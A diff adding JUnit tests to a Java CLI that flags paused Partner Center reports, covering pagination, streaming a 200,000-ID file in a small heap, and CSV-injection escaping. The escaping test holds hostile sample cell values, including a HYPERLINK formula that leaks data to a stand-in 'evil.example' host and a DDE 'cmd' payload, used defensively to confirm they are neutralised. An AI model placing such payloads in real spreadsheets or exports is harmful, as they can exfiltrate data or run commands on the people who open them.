@@ -9,6 +9,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.github.tomakehurst.wiremock.stubbing.Scenario;
 import com.reportresumer.testsupport.CliRun;
 import com.reportresumer.testsupport.FakePartnerCenter;
+import com.reportresumer.testsupport.ForkedApp;
 import com.reportresumer.testsupport.Requests;
 import com.reportresumer.testsupport.TestDatabases;
 import java.nio.file.Files;
@@ -18,6 +19,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -135,6 +137,69 @@ class OpsCommandsTest {
     }
 
     @Test
+    void flagAllPausedFlagsEachPageAsItArrives() {
+        String first = UUID.randomUUID().toString();
+        String listing = FakePartnerCenter.API_PATH + "/ScheduledReport";
+        api.wireMock().stubFor(get(urlPathEqualTo(listing)).atPriority(5).willReturn(okJson("""
+                {"value":[{"reportId":"%s","reportStatus":"Paused"},{"reportId":"%s","reportStatus":"Active"}],
+                 "nextLink":"https://api.partnercenter.microsoft.com/insights/v1/mpn/ScheduledReport?continuationToken=p2"}"""
+                .formatted(first, UUID.randomUUID()))));
+        api.wireMock().stubFor(get(urlPathEqualTo(listing)).atPriority(1)
+                .withQueryParam("continuationToken", com.github.tomakehurst.wiremock.client.WireMock.equalTo("p2"))
+                .willReturn(status(503, "busy")));
+
+        CliRun result = cli("flag", "--all-paused");
+
+        // the first page was flagged when it arrived, before the second one was asked for
+        assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
+        assertThat(result.err()).contains("page 2").contains("1 paused reports").contains("HTTP 503: busy");
+        assertThat(requests.query("SELECT report_id, status FROM resume_request"))
+                .containsExactly(Map.of("report_id", first, "status", "PENDING"));
+        assertThat(api.allUrls().stream().filter(u -> u.contains("continuationToken=p2"))).hasSize(2);
+    }
+
+    @Test
+    void flagStreamsAFileOf200000IdsThroughASmallHeap() throws Exception {
+        Path file = Files.createDirectories(Path.of("target", "flag-files")).resolve("ids-200000.txt");
+        List<String> pending = new ArrayList<>();
+        try (var out = Files.newBufferedWriter(file)) {
+            out.write("# 200,000 reports, 5,000 of them twice, 10 already pending, 3 malformed\n");
+            for (int i = 0; i < 200_000; i++) {
+                String id = UUID.randomUUID().toString();
+                out.write(id + "\n");
+                if (i % 40 == 0) {
+                    out.write("  " + id.toUpperCase() + "\n\n"); // the same report again
+                }
+                if (i % 20_000 == 7) {
+                    pending.add(id);
+                }
+                if (i % 70_000 == 3) {
+                    out.write("not-a-report-" + i + "\n");
+                }
+            }
+        }
+        requests.flag(pending.toArray(String[]::new));
+        List<String> args = new ArrayList<>(List.of("--file", file.toString(), "--by", "bulk"));
+        args.addAll(List.of(db.springArgs()));
+
+        // the file is 7.6 MB: as a list of IDs, a set of UUIDs and one array parameter it would not fit in 64 MB
+        ForkedApp app = ForkedApp.start(List.of("-Xmx64m"), "flag", args);
+
+        boolean ended = app.process().waitFor(120, TimeUnit.SECONDS);
+        if (!ended) {
+            app.process().destroyForcibly().waitFor();
+        }
+        assertThat(ended).as("ended within 2 minutes: %s", app.err()).isTrue();
+        assertThat(app.process().exitValue()).as(app.err()).isEqualTo(2);
+        assertThat(app.out()).startsWith("199990 added, 5010 already pending, 3 malformed")
+                .contains("not-a-report-3", "not-a-report-70003", "not-a-report-140003");
+        assertThat(requests.count("SELECT count(*) FROM resume_request WHERE status = 'PENDING'"))
+                .isEqualTo(200_000);
+        assertThat(requests.count("SELECT count(*) FROM resume_request WHERE requested_by = 'bulk'"))
+                .isEqualTo(199_990);
+    }
+
+    @Test
     void auditRunsAndRerunFailedTellOpsWhatHappened() throws Exception {
         UUID good = UUID.randomUUID(), down = UUID.randomUUID(), gone = UUID.randomUUID();
         api.answers(down, status(503, "Service unavailable")).answers(gone, status(404, "Report not found"));
@@ -187,6 +252,44 @@ class OpsCommandsTest {
         assertThat(runList.get(1).get("status").asString()).isEqualTo("COMPLETED");
         CliRun table = cli("runs");
         assertThat(table.out()).contains("RESUMED", "FAILED").contains("COMPLETED");
+    }
+
+    @Test
+    void csvCellsAFlaggerControlsNeverBecomeSpreadsheetFormulas() throws Exception {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
+        List<String> hostile = List.of(formula, "+1+2", "-3-4", "@SUM(A1)", "\tx", "\ry");
+        UUID refusing = UUID.randomUUID();
+        api.answers(refusing, status(400, "@SUM(1+1)*cmd|' /C calc'!A0"));
+        requests.flag(hostile.toArray(String[]::new));
+        requests.flag(refusing.toString());
+        assertThat(cli("run").exitCode()).isEqualTo(3);
+
+        List<Map<String, String>> audit = parseCsv(cli("audit", "--format", "csv"));
+        List<Map<String, String>> runs = parseCsv(cli("runs", "--format", "csv"));
+
+        assertThat(audit).extracting(r -> r.get("report_id"))
+                .containsAll(hostile.stream().map(id -> "'" + id).toList());
+        assertThat(audit).filteredOn(r -> r.get("report_id").equals(refusing.toString()))
+                .extracting(r -> r.get("message")).containsExactly("'@SUM(1+1)*cmd|' /C calc'!A0");
+        assertThat(runs).hasSize(1);
+        for (Map<String, String> row : concat(audit, runs)) {
+            assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
+                    .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
+        }
+    }
+
+    private static List<Map<String, String>> parseCsv(CliRun result) throws Exception {
+        assertThat(result.exitCode()).as(result.toString()).isZero();
+        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
+                .with(CsvSchema.emptySchema().withHeader()).readValues(result.out())) {
+            return it.readAll();
+        }
+    }
+
+    private static List<Map<String, String>> concat(List<Map<String, String>> a, List<Map<String, String>> b) {
+        List<Map<String, String>> all = new ArrayList<>(a);
+        all.addAll(b);
+        return all;
     }
 
     @Test
